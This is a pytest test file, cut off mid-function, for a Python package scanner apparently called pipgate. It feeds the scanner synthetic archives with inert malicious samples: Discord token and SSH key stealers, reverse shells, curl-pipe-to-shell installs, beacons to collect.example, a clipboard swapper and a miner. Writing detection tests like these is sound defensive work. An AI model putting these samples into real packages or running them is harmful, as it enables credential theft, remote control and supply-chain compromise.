"""Each rule of the content scan, on small synthetic archives the tests write themselves.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import base64

import pytest

from pipgate.policies.scan import ScanPolicy, ScanReport
from pipgate.proxy.scan import scan_archive
from tests.support.archives import pkg_info, sdist, wheel

POLICY = ScanPolicy()

SETUP_DECODE_EXEC = """\
import base64
from setuptools import setup
exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
setup(name="demo", version="1.0")
"""
LAMBDA_DECODE_EXEC = """\
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'==QfWqZp'))
"""
DOWNLOAD_EXEC = """\
import urllib.request as u
def go():
    exec(u.urlopen("https://payload.example/p.py").read())
go()
"""
STEALER = """\
import os, requests, re
def grab():
    base = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
    tokens = []
    for name in os.listdir(base):
        tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(os.path.join(base, name), errors="ignore").read())
    requests.post("https://discord.com/api/webhooks/1234/abcd", json={"content": str(tokens)})
grab()
"""
POWERSHELL_SETUP = """\
import subprocess
from setuptools import setup
subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", shell=True)
setup(name="demo", version="1.0")
"""
CURL_SH_SETUP = """\
import os
from setuptools import setup
os.system("curl -fsSL https://get.example/i.sh | sh")
setup(name="demo")
"""
PERSISTENCE = """\
import os, shutil, sys
startup = os.path.join(os.getenv("APPDATA"), r"Microsoft\\Windows\\Start Menu\\Programs\\Startup")
shutil.copy(sys.argv[0], os.path.join(startup, "updater.exe"))
"""
CLIPPER = """\
import re, time, pyperclip
MINE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
while True:
    data = pyperclip.paste()
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", data):
        pyperclip.copy(MINE)
    time.sleep(1)
"""
PHONE_HOME_SETUP = """\
import getpass, socket, urllib.request
from setuptools import setup
from setuptools.command.install import install

class Hook(install):
    def run(self):
        urllib.request.urlopen("https://collect.example/?h=" + socket.gethostname() + "&u=" + getpass.getuser())
        install.run(self)

setup(name="acme-internal-tools", version="99.0.0", cmdclass={"install": Hook})
"""
OBFUSCATED = """\
blob = "%s"
getattr(__builtins__, "ex" + "ec")(blob)
""" % ("QUJD" * 700)
PY2_DECODE_EXEC = """\
import base64
print "installing"
exec base64.b64decode("cHJpbnQgJ2hpJw==")
exec(base64.b64decode("cHJpbnQgJ2hpJw=="))
"""
REVERSE_SHELL = """\
import os, socket, subprocess
def shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("shell.example", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
shell()
"""
IMPORT_BEACON = """\
import getpass, socket, requests
requests.post("https://collect.example/", json={"u": getpass.getuser(), "h": socket.gethostname()})
"""
HIDDEN_PAYLOAD_SETUP = '''\
import os, tempfile
from setuptools import setup
payload = """import urllib.request as u; run = exec; run(u.urlopen('https://x.example/p').read())"""
with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as handle:
    handle.write(payload)
os.system("python " + handle.name)
setup(name="demo")
'''
HIDDEN_INSTALL_SETUP = """\
import subprocess
from setuptools import setup
setup(name="demo", version="1.0")
subprocess.getoutput("dig @1.1.1.1 beacon.collect.example")
subprocess.getoutput("pip install helper-payload -U")
"""
DROP_RUN = """\
import base64, os, subprocess
BLOB = "aGVsbG8gd29ybGQ="
def install():
    target = os.path.join(os.getenv("TEMP"), "svc.bin")
    with open(target, "wb") as handle:
        handle.write(base64.b64decode(BLOB))
    subprocess.Popen([target])
install()
"""
# The first bytes of a PE header, base64: a literal that would be written out as a program.
EMBEDDED_EXECUTABLE = (
    'HEADER = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"\nx = 1\n'
)
UPLOAD = 'import os\nos.system("curl -s -F file=@/etc/hosts https://collect.example/up")\n'
SHELL_HISTORY = """\
import os, requests
data = open(os.path.expanduser("~/.bash_history")).read()
requests.post("https://collect.example/", data=data)
"""
BEACON_IN_CORE = """\
import getpass, requests
def main():
    requests.post("https://collect.example/", json={"u": getpass.getuser()})
"""
MINER = """\
import subprocess
subprocess.Popen(["./worker", "-o", "stratum+tcp://pool.example:3333", "-u", "WALLET"])
"""
PY2_METHOD_DECODE = 'exec("cHJpbnQoMSk=".decode("base64"))\n'
HOST_VARIABLE_SETUP = """\
import os, requests
from setuptools import setup
from setuptools.command.install import install

def report():
    name = os.environ["COMPUTERNAME"]
    requests.get("https://collect.example/?h=" + name)

class Hook(install):
    def run(self):
        install.run(self)
        report()

setup(name="demo", cmdclass={"install": Hook})
"""
IP_LOGGER_SETUP = """\
import urllib.request
from setuptools import setup
setup(name="demo")
urllib.request.urlopen("https://iplogger.org/2abcd")
"""
CURL_COMMAND_SETUP = """\
import os
from setuptools import setup
os.popen("curl -s https://collect.example/hit")
setup(name="demo")
"""
CURL_PERL_SETUP = """\
import subprocess
from setuptools import setup
subprocess.run("curl https://get.example/p | perl -", shell=True)
setup(name="demo")
"""
TEMP_EXECUTABLE = """\
import os, urllib.request

def fetch(url):
    path = os.getenv("LOCALAPPDATA") + "\\\\Temp\\\\update.exe"
    with open(path, "wb") as out:
        out.write(urllib.request.urlopen(url).read())
    return path

def start(path):
    os.system(f"start {path}")

start(fetch("https://files.example/u"))
"""
MISTYPED_FETCH_SETUP = """\
import urllib.request
from subprocess import run
from setuptools import setup
try:
    urllib.urlrequest.urlretrieve("https://files.example/tool.exe", "tool.exe")
    run(["start", "tool.exe"], shell=True)
except Exception:
    pass
setup(name="demo")
"""
CURL_SENDS_KEY_SETUP = """\
import os, subprocess
from setuptools import setup
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
subprocess.check_output(["curl", "https://collect.example/?k=" + key])
setup(name="demo")
"""
REUSED_HANDLE = """\
import os, urllib.request
path = os.getenv("TEMP") + "/helper.dat"
with open(path, "w") as f:
    f.write(urllib.request.urlopen("https://files.example/s.txt").read().decode())
os.system(f"start pythonw {path}")
log = os.path.join(os.getenv("TEMP"), "log.txt")
with open(log, "w") as f:
    f.write("done")
"""
FQDN_BEACON = """\
import json, socket, urllib.request

def attempt(func):
    try:
        return func()
    except Exception:
        return ""

data = json.dumps({"h": attempt(socket.getfqdn)})
urllib.request.urlopen("https://collect.example/?d=" + data)
"""
POWERSHELL_SHELL_SETUP = """\
import os
from setuptools import setup
os.system('powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient(\\'shell.example\\',4444);$s = $c.GetStream()"')
setup(name="demo")
"""
SHUTDOWN_SETUP = """\
import os
from setuptools import setup
os.system("shutdown /s -f -t 0")
setup(name="demo")
"""
EXTENSION_SETUP = """\
import os, subprocess
from setuptools import setup
target = os.getenv("APPDATA") + "\\\\Extension"
subprocess.call(["cmd", "/c", "mkdir", target])
with open(target + "\\\\background.js", "w") as handle:
    handle.write("chrome.runtime.onInstalled.addListener(() => {});")
setup(name="demo")
"""
MALICIOUS_PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"

# Legitimate packages do all of these every day; none may be flagged.
BENIGN_SETUP = """\
import os, subprocess, base64
from setuptools import setup
version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
exec(open(os.path.join("demo", "_version.py")).read())
setup(name="demo", version=version, long_description=base64.b64encode(b"x").decode())
"""
BENIGN_INIT = """\
import base64, json, subprocess
import requests

def fetch(url):
    response = requests.get(url, timeout=10)
    return json.loads(response.text)

def encode(data):
    return base64.b64decode(base64.b64encode(data))

def run(cmd):
    return subprocess.run(cmd, check=True, capture_output=True)
"""


def _sdist(setup: str | None = None, init: str = "", **extra: str) -> bytes:
    members = {"PKG-INFO": pkg_info(), "demo/__init__.py": init, **extra}
    if setup is not None:
        members["setup.py"] = setup
    return sdist(members)


CASES = [
    # (id, archive bytes, filename, expected rule, flagged)
    ("decode-exec setup.py", _sdist(SETUP_DECODE_EXEC), "demo-1.0.tar.gz", "decode-exec", True),
    (
        "decode-exec lambda in __init__",
        wheel({"demo/__init__.py": LAMBDA_DECODE_EXEC}),
        "demo-1.0-py3-none-any.whl",
        "decode-exec",
        True,
    ),
    (
        "download-exec",
        wheel({"demo/__init__.py": DOWNLOAD_EXEC}),
        "demo-1.0-py3-none-any.whl",
        "download-exec",
        True,
    ),
    (
        "malicious .pth",
        wheel({"demo.pth": MALICIOUS_PTH, "demo/__init__.py": ""}),
        "demo-1.0-py3-none-any.whl",
        "pth-exec",
        True,
    ),
    (
        "credential stealer and webhook",
        wheel({"demo/__init__.py": STEALER}),
        "demo-1.0-py3-none-any.whl",
        "credential-exfil",
        True,
    ),
    ("powershell", _sdist(POWERSHELL_SETUP), "demo-1.0.tar.gz", "download-run", True),
    ("curl | sh", _sdist(CURL_SH_SETUP), "demo-1.0.tar.gz", "download-run", True),
    (
        "persistence",
        wheel({"demo/__init__.py": PERSISTENCE}),
        "demo-1.0-py3-none-any.whl",
        "persistence",
        True,  # copied into the start-up folder on import, by the lines naming it (rules 53)
    ),
    (
        "clipboard swap",
        wheel({"demo/__init__.py": CLIPPER}),
        "demo-1.0-py3-none-any.whl",
        "clipboard-swap",
        True,
    ),
    (
        "phone-home placeholder",
        sdist(
            {
                "PKG-INFO": pkg_info("acme-internal-tools", "99.0.0"),
                "setup.py": PHONE_HOME_SETUP,
            },
            root="acme-internal-tools-99.0.0",
        ),
        "acme-internal-tools-99.0.0.tar.gz",
        "phone-home",
        True,
    ),
    (
        "dummy placeholder",
        sdist(
            {
                "PKG-INFO": pkg_info("acme-billing", "0.0.0", "Dummy package"),
                "setup.py": "from setuptools import setup\nsetup(name='acme-billing')\n",
                "acme_billing/__init__.py": "",
            },
            root="acme-billing-0.0.0",
        ),
        "acme-billing-0.0.0.tar.gz",
        "placeholder-text",
        True,
    ),
    (
        # `exec` reached through a name written in pieces, and called: since rules 8 the
        # call is read as the `exec` it is, code that runs what it hides.
        "obfuscated with opaque literal",
        wheel({"demo/__init__.py": OBFUSCATED}),
        "demo-1.0-py3-none-any.whl",
        "obfuscated",
        True,
    ),
    (
        "broken Python still read",
        _sdist(PY2_DECODE_EXEC),
        "demo-1.0.tar.gz",
        "decode-exec",
        True,
    ),
    (
        "stealer dependency",
        wheel(
            {"demo/__init__.py": "x = 1\n"},
            metadata=pkg_info() + "Requires-Dist: browser-cookie3\n",
        ),
        "demo-1.0-py3-none-any.whl",
        "stealer-dependency",
        False,
    ),
    (
        "reverse shell",
        wheel({"demo/__init__.py": "from .net import shell\n", "demo/net.py": REVERSE_SHELL}),
        "demo-1.0-py3-none-any.whl",
        "reverse-shell",
        True,
    ),
    (
        "phone home on import",
        wheel({"demo/__init__.py": IMPORT_BEACON}),
        "demo-1.0-py3-none-any.whl",
        "phone-home",
        True,
    ),
    (
        "payload hidden in a string",
        _sdist(HIDDEN_PAYLOAD_SETUP),
        "demo-1.0.tar.gz",
        "download-exec",
        True,
    ),
    (
        "hidden install and DNS beacon",
        _sdist(HIDDEN_INSTALL_SETUP),  # and the package has no code: a placeholder
        "demo-1.0.tar.gz",
        "hidden-install",
        True,
    ),
    (
        "drop-run",
        wheel({"demo/__init__.py": DROP_RUN}),
        "demo-1.0-py3-none-any.whl",
        "drop-run",
        True,
    ),
    (
        "embedded executable",
        wheel({"demo/__init__.py": EMBEDDED_EXECUTABLE}),
        "demo-1.0-py3-none-any.whl",
        "embedded-executable",
        False,
    ),
    (
        "command hijack",
        wheel(
            {
                "demo/__init__.py": "def main():\n    pass\n",
                "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\nsudo = demo:main\n",
            }
        ),
        "demo-1.0-py3-none-any.whl",
        "command-hijack",
        True,  # since rules 8: `sudo`, `pip`, `python` and the like weigh 10
    ),
    (
        "command-line upload",
        wheel({"demo/__init__.py": UPLOAD}),
        "d-1.0-py3-none-any.whl",
        "exfil-sink",
        True,
    ),
    (
        "shell history sent",
        wheel({"demo/__init__.py": SHELL_HISTORY}),
        "demo-1.0-py3-none-any.whl",
        "credential-exfil",
        True,
    ),
    (
        "beacon in a module the package's __init__ calls",
        wheel(
            {"demo/__init__.py": "from .core import main\nmain()\n", "demo/core.py": BEACON_IN_CORE}
        ),
        "demo-1.0-py3-none-any.whl",
        "phone-home",
        True,
    ),
    (
        "cryptominer",
        wheel({"demo/__init__.py": MINER}),
        "d-1.0-py3-none-any.whl",
        "cryptominer",
        True,
    ),
    (
        "Python 2 str.decode('base64') into exec",
        wheel({"demo/__init__.py": PY2_METHOD_DECODE}),
        "demo-1.0-py3-none-any.whl",
        "decode-exec",
        True,
    ),
    ("host name variable sent", _sdist(HOST_VARIABLE_SETUP), "demo-1.0.tar.gz", "phone-home", True),
    ("IP logger at install", _sdist(IP_LOGGER_SETUP), "demo-1.0.tar.gz", "exfil-sink", True),
    (
        "curl run at install",
        _sdist(CURL_COMMAND_SETUP, "def f():\n    return 1\n"),
        "demo-1.0.tar.gz",
        "install-network",
        False,
    ),
    ("curl | perl", _sdist(CURL_PERL_SETUP), "demo-1.0.tar.gz", "download-run", True),
    (
        "download to a program in a temporary directory",
        wheel({"demo/__init__.py": TEMP_EXECUTABLE}),
        "demo-1.0-py3-none-any.whl",
        "download-run",
        True,
    ),
    ("mistyped urlretrieve", _sdist(MISTYPED_FETCH_SETUP), "demo-1.0.tar.gz", "download-run", True),
    (
        "secret sent by curl",
        _sdist(CURL_SENDS_KEY_SETUP),
        "demo-1.0.tar.gz",
        "credential-exfil",
        True,
    ),
    (
        "file object name reused for a second file",
        wheel({"demo/__init__.py": REUSED_HANDLE}),
        "demo-1.0-py3-none-any.whl",
        "drop-run",
        True,
    ),
    (
        "fully qualified host name sent",
        wheel({"demo/__init__.py": FQDN_BEACON}),
        "d.whl",
        "phone-home",
        True,
    ),
    (
        "PowerShell reverse shell",
        _sdist(POWERSHELL_SHELL_SETUP),
        "demo-1.0.tar.gz",
        "reverse-shell",
        True,
    ),
    ("shutdown at install", _sdist(SHUTDOWN_SETUP), "demo-1.0.tar.gz", "destructive", True),
    (
        "script written into the profile",
        _sdist(EXTENSION_SETUP),
        "demo-1.0.tar.gz",
        "install-write",
        True,
    ),
    (
        "bundled executable",
        _sdist("from setuptools import setup\nsetup()\n", **{"bin/payload.exe": "MZ"}),
        "demo-1.0.tar.gz",
        "bundled-executable",
        False,
    ),
]


@pytest.mark.parametrize(
    ("archive", "filename", "rule", "flagged"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_rule_fires(archive: bytes, filename: str, rule: str, flagged: bool) -> None:
    report = scan_archive(archive, filename)
    assert report.incomplete is None
    assert rule in {f.rule for f in report.findings}, report.findings
    assert (not POLICY.decide(report).allowed) is flagged, report.summary()


def test_reason_names_rule_and_file_line() -> None:
    report = scan_archive(_sdist(SETUP_DECODE_EXEC), "demo-1.0.tar.gz")
    decision = POLICY.decide(report)
    assert "decode-exec" in decision.reason
    assert "setup.py:3" in decision.reason


def test_benign_package_with_subprocess_base64_requests_and_exec_of_a_file_passes() -> None:
    report = scan_archive(_sdist(BENIGN_SETUP, BENIGN_INIT), "demo-1.0.tar.gz")
    assert POLICY.decide(report).allowed, report.summary()
    assert "decode-exec" not in {f.rule for f in report.findings}


def test_benign_pth_that_only_adds_paths_or_imports() -> None:
    archive = wheel(
        {"demo.pth": "src\n# comment\nimport _virtualenv\n", "demo/__init__.py": "x = 1\n"}
    )
    report = scan_archive(archive, "demo-1.0-py3-none-any.whl")
    assert {f.rule for f in report.findings} == {"pth-import"}
    assert POLICY.decide(report).allowed


def test_a_comment_that_mentions_a_webhook_is_not_a_finding() -> None:
    source = '"""Send alerts: see https://discord.com/api/webhooks/1/x for the format."""\nx = 1\n'
    report = scan_archive(
        wheel({"demo/helpers/alerts.py": "# exec(b64decode(x))\nx = 1\n"}), "d.whl"
    )
    assert report.findings == ()
    docstring_only = scan_archive(wheel({"demo/__init__.py": source}), "d.whl")
    assert {f.rule for f in docstring_only.findings} <= {"exfil-sink"}
    assert POLICY.decide(docstring_only).allowed


#: Forty kilobytes of a library's ordinary modules (past ``engine._SMALL_PACKAGE``).
LIBRARY = {f"demo/part{i}.py": "def f(x):\n    return x + 1\n" * 200 for i in range(10)}


def test_weak_signals_in_a_large_packages_module_nothing_runs_weigh_less() -> None:
    source = "import os\nCMD = 'curl -fsSL https://get.example/i.sh | sh'\ndef f():\n    os.system(CMD)\n"
    early = scan_archive(wheel({"demo/__init__.py": source, **LIBRARY}), "d.whl")
    deep = scan_archive(
        wheel({"demo/__init__.py": "x = 1\n", "demo/tools/install.py": source, **LIBRARY}),
        "d.whl",
    )
    assert early.score > deep.score > 0


def test_in_a_small_package_a_module_nothing_runs_weighs_in_full() -> None:
    source = "import os\nCMD = 'curl -fsSL https://get.example/i.sh | sh'\ndef f():\n    os.system(CMD)\n"
    early = scan_archive(wheel({"demo/__init__.py": source}), "d.whl")
    deep = scan_archive(
        wheel({"demo/__init__.py": "x = 1\n", "demo/tools/install.py": source}), "d.whl"
    )
    assert early.score == deep.score == 10


def test_tests_and_docs_are_not_judged() -> None:
    archive = _sdist(
        "x = 1\n",
        "def f():\n    return 1\n",
        **{"tests/test_evil.py": SETUP_DECODE_EXEC, "docs/conf.py": STEALER},
    )
    assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()


def test_rules_version_is_reported() -> None:
    from pipgate.proxy.scan import RULES_VERSION

    assert scan_archive(_sdist("x = 1\n"), "demo-1.0.tar.gz").rules_version == RULES_VERSION


def test_a_console_script_named_after_the_project_is_not_a_hijack() -> None:
    archive = wheel(
        {
            "pip/__init__.py": "def main():\n    pass\n",
            "pip-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = pip:main\npip3 = pip:main\n",
        },
        name="pip",
    )
    assert "command-hijack" not in {
        f.rule for f in scan_archive(archive, "pip-1.0-py3-none-any.whl").findings
    }


def test_a_function_defined_but_not_called_at_import_weighs_less() -> None:
    called = wheel(
        {"demo/__init__.py": "from .core import main\nmain()\n", "demo/core.py": BEACON_IN_CORE}
    )
    defined = wheel(
        {"demo/__init__.py": "from .core import main\n", "demo/core.py": BEACON_IN_CORE}
    )
    assert not POLICY.decide(scan_archive(called, "d.whl")).allowed
    assert POLICY.decide(scan_archive(defined, "d.whl")).allowed


def test_directories_named_with_test_or_doc_words_are_inert() -> None:
    archive = _sdist(
        "from setuptools import setup\nsetup()\n",
        "def f():\n    return 1\n",
        **{"manual tests/build.py": SETUP_DECODE_EXEC, "_test-data/gen.py": SETUP_DECODE_EXEC},
    )
    assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()


def test_only_command_groups_can_hijack_a_command() -> None:
    plugin = (
        '[project]\nname = "demo"\n\n[project.entry-points."demo.extractors"]\npython = "demo:x"\n'
    )
    script = '[project]\nname = "demo"\n\n[project.scripts]\npip = "demo:main"\n'
    cfg = "[options.entry_points]\nconsole_scripts =\n    sudo = demo:main\ndemo.plugins =\n    ls = demo:x\n"
    rules = [
        {
            f.rule
            for f in scan_archive(_sdist("x = 1\n", **{name: text}), "demo-1.0.tar.gz").findings
        }
        for name, text in (
            ("pyproject.toml", plugin),
            ("pyproject.toml", script),
            ("setup.cfg", cfg),
        )
    ]
    assert "command-hijack" not in rules[0]
    assert "command-hijack" in rules[1]
    assert "command-hijack" in rules[2]


def test_getattr_of_builtins_by_a_runtime_name_is_not_obfuscation() -> None:
    lookup = "import builtins\ndef find(name):\n    return getattr(builtins, name)\n"
    hidden = "import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"
    assert scan_archive(wheel({"demo/__init__.py": lookup}), "d.whl").findings == ()
    found = scan_archive(wheel({"demo/__init__.py": hidden}), "d.whl").findings
    assert "obfuscated" in {f.rule for f in found}


def test_a_bench_directory_is_inert() -> None:
    archive = _sdist(
        "from setuptools import setup\nsetup()\n",
        "def f():\n    return 1\n",
        **{"bench/run.py": DOWNLOAD_EXEC},
    )
    assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()


def test_a_calendar_version_is_not_a_placeholder_version() -> None:
    def placeholder(version: str) -> bool:
        archive = sdist(
            {"PKG-INFO": pkg_info("demo", version), "demo/__init__.py": "def f():\n    return 1\n"},
            root=f"demo-{version}",
        )
        found = scan_archive(archive, f"demo-{version}.tar.gz").findings
        return "placeholder" in {f.rule for f in found}

    assert not placeholder("2026.9.1")
    assert placeholder("99.0.0")


def test_an_empty_package_whose_install_uses_the_network_is_a_beacon() -> None:
    beacon = "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://collect.example/')\nsetup()\n"
    report = scan_archive(_sdist(beacon), "demo-1.0.tar.gz")
    assert {"install-network", "placeholder"} <= {f.rule for f in report.findings}
    assert not POLICY.decide(report).allowed
    # With code of its own, an install that downloads what it reads is not a beacon (one
    # that calls out and ignores the answer is, since rules 8).
    download = beacon.replace(
        "urllib.request.urlopen('https://collect.example/')",
        "data = urllib.request.urlopen('https://collect.example/').read()",
    )
    with_code = scan_archive(_sdist(download, "def f():\n    return 1\n"), "demo-1.0.tar.gz")
    assert POLICY.decide(with_code).allowed
    ignored = scan_archive(_sdist(beacon, "def f():\n    return 1\n"), "demo-1.0.tar.gz")
    assert not POLICY.decide(ignored).allowed


def test_pyarmor_packed_code_that_runs_on_import_is_held() -> None:
    packed = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR')\n"
    early = scan_archive(wheel({"demo/__init__.py": packed}), "d.whl")
    assert "obfuscated" in {f.rule for f in early.findings}
    assert not POLICY.decide(early).allowed
    deep = scan_archive(
        wheel({"demo/__init__.py": "x = 1\n", "demo/extra/packed.py": packed}), "d.whl"
    )
    assert POLICY.decide(deep).allowed


# -- rules 5: behaviours the 2024 campaigns showed (general, not campaign strings) ----------


def _codes(text: str) -> str:
    return "[" + ", ".join(str(ord(c)) for c in text) + "]"


def test_importing_a_package_that_installs_other_packages_is_held() -> None:
    init = "import os\nos.system('pip install requests pyperclip pycryptodomex')\nx = 1\n"
    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    assert "hidden-install" in {f.rule for f in report.findings}, report.findings
    assert not POLICY.decide(report).allowed, report.summary()


def test_advice_to_pip_install_in_a_function_import_does_not_call_passes() -> None:
    init = (
        "import subprocess\ndef upgrade():\n    subprocess.run(['pip', 'install', '-U', 'demo'])\n"
    )
    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    assert "hidden-install" not in {f.rule for f in report.findings}, report.findings
    assert POLICY.decide(report).allowed, report.summary()


def test_importing_a_package_that_starts_python_on_inline_code_detached_is_held() -> None:
    init = (
        "import subprocess\n"
        "subprocess.Popen(['python3', '-c', 'import helper_agent'], close_fds=True)\n"
    )
    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    assert "install-python" in {f.rule for f in report.findings}, report.findings
    assert not POLICY.decide(report).allowed, report.summary()


def test_importing_a_package_that_runs_python_and_waits_passes() -> None:
    init = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n"
    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    assert "install-python" not in {f.rule for f in report.findings}, report.findings
    assert POLICY.decide(report).allowed, report.summary()


BEACON_MODULE = """\
import socket, getpass, requests
def report():
    requests.post("{url}", json={{"host": socket.gethostname(), "user": getpass.getuser()}})
"""


def test_host_facts_sent_to_a_request_catcher_from_any_module_are_held() -> None:
    source = BEACON_MODULE.format(url="https://abc123.oastify.com/x")
    archive = _sdist("from setuptools import setup\nsetup()\n", "", **{"demo/tools/r.py": source})
    report = scan_archive(archive, "demo-1.0.tar.gz")
    assert "phone-home" in {f.rule for f in report.findings}, report.findings
    assert not POLICY.decide(report).allowed, report.summary()


def test_host_facts_sent_to_the_projects_own_server_from_a_module_pass() -> None:
    source = BEACON_MODULE.format(url="https://telemetry.example.org/v1")
    archive = _sdist("from setuptools import setup\nsetup()\n", "", **{"demo/tools/r.py": source})
    report = scan_archive(archive, "demo-1.0.tar.gz")
    assert POLICY.decide(report).allowed, report.summary()


def test_strings_spelled_as_character_codes_are_read_and_count_as_hiding() -> None:
    init = (
        "import requests\n"
        f"URL = ''.join(map(chr, {_codes('https://discord.com/api/webhooks/1/x')}))\n"
        f"VERB = ''.join(chr(c) for c in {_codes('POST')})\n"
        "def send(data):\n"
        "    requests.request(VERB, URL, data=data)\n"
    )
    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    rules = {f.rule: f for f in report.findings}
    assert "exfil-sink" in rules, report.findings  # the webhook, once decoded
    assert "character codes" in rules["obfuscated"].detail
    assert not POLICY.decide(report).allowed, report.summary()


def test_one_character_built_from_a_code_is_not_hiding() -> None:
    init = "SEP = ''.join(map(chr, [27, 91]))\ndef f(x):\n    return SEP + x\n"
    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    assert "obfuscated" not in {f.rule for f in report.findings}, report.findings


XOR_EXEC = """\
DATA = "\\x41\\x0f\\x13"
KEY = "1234"
out = ""
for i in range(len(DATA)):
    out += chr(ord(DATA[i]) ^ ord(KEY[i % len(KEY)]))
eval(compile(out, "<string>", "exec"))
"""


def test_text_xored_back_character_by_character_then_run_is_decode_exec() -> None:
    report = scan_archive(wheel({"demo/__init__.py": XOR_EXEC}), "demo-1.0-py3-none-any.whl")
    assert "decode-exec" in {f.rule for f in report.findings}, report.findings
    assert not POLICY.decide(report).allowed, report.summary()


def test_xor_that_never_reaches_exec_is_not_decode_exec() -> None:
    source = XOR_EXEC.replace('eval(compile(out, "<string>", "exec"))', "print(out)")
    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert "decode-exec" not in {f.rule for f in report.findings}, report.findings


def test_a_command_xored_out_of_a_literal_and_run_is_decode_exec() -> None:
    command = bytes(b ^ 0x42 for b in b"calc.exe")
    source = (
        "import subprocess\n"
        "def start(path):\n"
        f"    command = {command!r}\n"
        "    text = bytes([b ^ 0x42 for b in command]).decode()\n"
        "    subprocess.run(text + ' ' + path, shell=True)\n"
    )
    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert "decode-exec" in {f.rule for f in report.findings}, report.findings


def test_a_runtime_value_xored_and_run_is_not_decode_exec() -> None:
    source = (
        "import subprocess, sys\n"
        "def start(data):\n"
        "    text = bytes([b ^ 0x42 for b in data]).decode()\n"
        "    subprocess.run(['tool', text])\n"
    )
    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert "decode-exec" not in {f.rule for f in report.findings}, report.findings


HIDDEN_URL = """\
import base64, requests
def where():
    return base64.b64decode("{encoded}").decode()
def send(data):
    requests.post(where(), data=data)
"""


def test_a_url_spelled_only_in_base64_beside_network_use_is_hidden_url() -> None:
    encoded = base64.b64encode(b"https://collector.example/in").decode()
    source = HIDDEN_URL.format(encoded=encoded)
    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert "hidden-url" in {f.rule for f in report.findings}, report.findings


def test_an_encoded_non_url_beside_network_use_is_not_hidden_url() -> None:
    encoded = base64.b64encode(b"user:password-for-the-demo").decode()
    source = HIDDEN_URL.format(encoded=encoded)
    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert "hidden-url" not in {f.rule for f in report.findings}, report.findings


def test_game_launcher_accounts_read_in_a_deep_module_are_seen() -> None:
    source = (
        "import os, requests\n"
        "def grab(url):\n"
        "    path = os.path.join(os.path.expanduser('~'), '.minecraft', 'launcher_accounts.json')\n"
        "    requests.post(url, files={'f': open(path, 'rb')})\n"
    )
    archive = wheel({"demo/__init__.py": "x = 1\n", "demo/tools/sync.py": source})
    report = scan_archive(archive, "demo-1.0-py3-none-any.whl")
    assert "credential-read" in {f.rule for f in report.findings}, report.findings


def _setup_running(line: str) -> ScanReport:
    """The report of an sdist whose ``setup.py`` runs ``line`` (``os`` imported)."""
    setup = f"import os\nfrom setuptools import setup\n{line}setup(name='demo')\n"
    return scan_archive(_sdist(setup), "demo-1.0.tar.gz")


def test_install_time_curl_that_carries_shell_host_facts_is_phone_home() -> None:
    report = _setup_running(
        "os.system('curl https://collector.example/x?u=$(whoami) -d \"$(hostname)\"')\n"
    )
    assert "phone-home" in {f.rule for f in report.findings}, report.findings
    assert not POLICY.decide(report).allowed, report.summary()


def test_install_time_curl_of_a_fixed_url_is_not_phone_home() -> None:
    report = _setup_running(
        "os.system('curl -o vendor.tgz https://downloads.example/vendor.tgz')\n"
    )
    assert "phone-home" not in {f.rule for f in report.findings}, report.findings


def test_curl_whose_first_option_uploads_a_file_is_an_upload() -> None:
    report = _setup_running("os.system('curl -F a=@/etc/hostname https://collector.example/in')\n")
    rules = {f.rule: f for f in report.findings}
    assert "command-line upload" in rules["exfil-sink"].detail, report.findings


def test_curl_advice_with_combined_lower_case_flags_is_not_an_upload() -> None:
    init = (
        "def missing():\n"
        "    raise FileNotFoundError('Install it via: curl -fsSL https://get.example/i.sh | sh')\n"
    )
    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    assert "exfil-sink" not in {f.rule for f in report.findings}, report.findings


def test_a_download_by_a_renamed_program_made_executable_is_download_run() -> None:
    report = _setup_running(
